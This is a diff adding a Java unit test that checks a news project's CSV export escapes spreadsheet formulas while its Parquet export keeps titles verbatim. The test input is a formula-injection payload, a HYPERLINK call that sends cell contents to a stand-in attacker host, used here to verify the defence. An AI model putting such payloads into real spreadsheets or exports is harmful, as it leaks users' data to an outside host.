@@ -7,6 +7,7 @@ import dev.newsgraph.model.RecordCodec;
 import dev.newsgraph.model.StoryRecord;
 import dev.newsgraph.store.NewsFixtures;
 import dev.newsgraph.store.Store;
+import dev.newsgraph.store.StoryRecords;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.sql.Connection;
@@ -59,6 +60,27 @@ class ExportsTest {
                 + " the Kremlin said.\""), consult);
         List<Path> single = CsvExport.write(store, dir.resolve("one/events.csv"));
         assertEquals(List.of(dir.resolve("one/events.csv")), single);
+    }
+
+    @Test
+    void csvWritesTextThatASpreadsheetWouldRunAsTextAndParquetKeepsItExactly() throws Exception {
+        String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        try (Store own = Store.open(dir.resolve("formula-db").toString(), true)) {
+            own.put(StoryRecords.article("sha256:formula", title, "2025-05-01", "-5 degrees in Oslo, the institute said.")
+                    .build());
+            CsvExport.write(own, dir.resolve("formula-csv"));
+            List<String> articles = Files.readAllLines(dir.resolve("formula-csv/articles.csv"));
+            assertTrue(articles.get(1).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","),
+                    articles.get(1));
+            assertTrue(articles.get(1).endsWith(",0,0,0"), "counts stay plain numbers: " + articles.get(1));
+            ParquetExport.write(own, dir.resolve("formula-parquet"));
+            try (Connection c = DriverManager.getConnection("jdbc:duckdb:"); Statement st = c.createStatement();
+                 ResultSet rs = st.executeQuery("SELECT title FROM read_parquet('"
+                         + dir.resolve("formula-parquet/articles.parquet") + "')")) {
+                assertTrue(rs.next());
+                assertEquals(title, rs.getString(1), "Parquet is read by programs: the text is kept as it was");
+            }
+        }
     }
 
     @Test
